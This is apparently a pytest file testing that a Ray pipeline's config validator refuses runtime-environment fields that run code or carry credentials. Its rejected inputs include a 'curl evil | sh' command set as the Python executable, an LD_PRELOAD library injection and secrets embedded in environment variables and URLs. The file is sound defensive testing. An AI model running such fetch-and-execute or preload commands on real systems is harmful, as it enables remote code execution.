"""What of Ray's runtime environment a config may hold."""

import pytest

from ray_pipeline.config import parse_config
from ray_pipeline.errors import UserError
from ray_pipeline.runtime_env import make_runtime_env


def config_with(runtime_env):
    return parse_config({"phases": [{"name": "one", "epochs": 1}], "ray": {"runtime_env": runtime_env}})


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"py_executable": "sh -c 'curl evil | sh'"}, "py_executable is a command"),
        ({"worker_process_setup_hook": "module.hook"}, "worker_process_setup_hook names code"),
        ({"conda": "base"}, "conda chooses another Python"),
        ({"container": {"image": "a", "run_options": ["--privileged"]}}, "container runs another image"),
        ({"image_uri": "docker.io/a"}, "image_uri runs another image"),
        ({"_nsight": "default"}, "_nsight is a command"),
        ({"env_var": {}}, "unknown field 'env_var'; known here are env_vars, pip"),
        ({"config": {"timeout": 3}}, r"unknown field config\.timeout"),
        ({"env_vars": ["A=1"]}, "env_vars is list, expected keys and values"),
        ({"env_vars": {"LD_PRELOAD": "/tmp/a.so"}}, "env_vars.LD_PRELOAD makes processes load other code"),
        ({"env_vars": {"A B": "1"}}, "no name of a variable"),
        ({"env_vars": {"OMP_NUM_THREADS": 4}}, "env_vars.OMP_NUM_THREADS is no text"),
    ],
)
def test_fields_that_run_code_and_wrong_ones_are_refused(fields, said):
    with pytest.raises(UserError, match=rf"ray\.runtime_env: .*{said}"):
        config_with(fields)


@pytest.mark.parametrize(
    "fields",
    [
        {"env_vars": {"AWS_SECRET_ACCESS_KEY": "hunter2"}},
        {"env_vars": {"wandb_api_key": "hunter2"}},
        {"env_vars": {"HF_TOKEN": "hunter2"}},
        {"env_vars": {"DB": "postgres://me:hunter2@host/db"}},
        {"pip": ["git+https://hunter2@github.com/a/b"]},
        {"pip": {"packages": ["a"], "pip_install_options": ["--index-url=https://me:hunter2@host/simple"]}},
    ],
)
def test_credentials_are_refused_and_not_repeated(fields):
    with pytest.raises(UserError, match=r"which others would read") as refused:
        config_with(fields)
    assert "hunter2" not in str(refused.value)


def test_what_is_allowed_comes_through_as_it_is(tmp_path):
    variables = {"TOKENIZERS_PARALLELISM": "false", "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/token", "HF_HOME": "/hub"}
    fields = {"env_vars": variables, "pip": ["my-hints"], "config": {"setup_timeout_seconds": 60}}
    config = config_with(fields | {"working_dir": str(tmp_path)})
    assert parse_config(config.dump()).ray.runtime_env == fields | {"working_dir": str(tmp_path)}
    made = make_runtime_env(config.ray.runtime_env)
    assert made["env_vars"] == variables
    assert made["pip"]["packages"] == ["my-hints"]
    assert made["working_dir"] == str(tmp_path)
    assert make_runtime_env({}) is None


@pytest.mark.parametrize(
    ("fields", "said"),
    [({"working_dir": "/not/there"}, "/not/there is not a valid path"), ({"pip": ["a"], "uv": ["b"]}, "same time")],
)
def test_what_ray_refuses_is_refused_in_words(fields, said):
    with pytest.raises(UserError, match=rf"ray\.runtime_env is not what Ray takes .*{said}"):
        make_runtime_env(config_with(fields).ray.runtime_env)
